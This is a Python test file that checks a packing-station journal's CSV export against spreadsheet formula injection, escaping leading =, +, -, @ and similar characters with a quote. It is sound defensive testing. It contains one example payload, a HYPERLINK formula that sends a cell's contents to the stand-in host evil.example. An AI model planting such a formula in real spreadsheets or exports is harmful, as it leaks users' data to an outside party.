from __future__ import annotations

import csv
import io
from pathlib import Path

from packstation.error_codes import ErrorCode
from packstation.journal import CSV_COLUMNS, AttemptFilter, Journal, Packer, Stage
from tests.journal import Failure, FakeClock
from tests.journal.conftest import OpenJournal

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _fill(journal: Journal, clock: FakeClock) -> None:
    shipped = journal.start_attempt("WEB-1", Packer("B-1", 'Anna, "the fast"'), "zebra-1")
    journal.record(shipped, Stage.ORDER_FOUND, order_id="o-1", order_number="WEB-1", integration_id=7)
    clock.advance(1)
    journal.record(shipped, Stage.LABEL_REQUESTED)
    clock.advance(2)
    journal.record(shipped, Stage.LABEL_CREATED, parcel_id=501, tracking_number="TT501")
    journal.record(shipped, Stage.LABEL_SAVED, label_path=Path("/labels/WEB-1.pdf"), label_sha256="ab")
    journal.record(shipped, Stage.PRINTED)
    clock.advance(60)
    # Text from outside (a scanned barcode, a name on a badge, an error) that a spreadsheet would run.
    hostile = journal.start_attempt(HOSTILE, Packer("@B-2", "+Bob"), "-zebra")
    journal.fail(
        hostile,
        Stage.FAILED,
        Failure("line one\nline two, with comma", ErrorCode.ORDER_NOT_FOUND),
    )


def test_csv_round_trip_without_formula_injection(open_journal: OpenJournal) -> None:
    clock = FakeClock()
    with open_journal("station-1", clock=clock) as journal:
        _fill(journal, clock)
        stream = io.StringIO(newline="")
        assert journal.export_csv(None, stream) == 2
        only_troubles = io.StringIO(newline="")
        assert journal.export_csv(AttemptFilter(troubles_only=True), only_troubles) == 1

    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    shipped, hostile = rows
    assert shipped["packer_name"] == 'Anna, "the fast"'
    assert shipped["order_number"] == "WEB-1"
    assert shipped["parcel_id"] == "501"
    assert shipped["stage"] == "printed"
    assert shipped["started_at"] == "2026-11-23T08:00:00.000000+00:00"
    assert shipped["label_call_ms"] == "2000"
    assert shipped["error_code"] == ""

    # Every cell a spreadsheet would evaluate starts with ' instead; stripping it gives the original.
    assert hostile["raw_scan"] == "'" + HOSTILE
    assert hostile["packer_id"] == "'@B-2"
    assert hostile["packer_name"] == "'+Bob"
    assert hostile["printer"] == "'-zebra"
    assert hostile["error_message"] == "line one\nline two, with comma"
    assert hostile["stage"] == "failed"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))

    troubles = list(csv.DictReader(io.StringIO(only_troubles.getvalue(), newline="")))
    assert [row["raw_scan"] for row in troubles] == ["'" + HOSTILE]


def test_empty_export_has_the_header(open_journal: OpenJournal) -> None:
    with open_journal("station-1") as journal:
        stream = io.StringIO(newline="")
        assert journal.export_csv(AttemptFilter(station="nowhere"), stream) == 0
    assert stream.getvalue().splitlines() == [",".join(CSV_COLUMNS)]
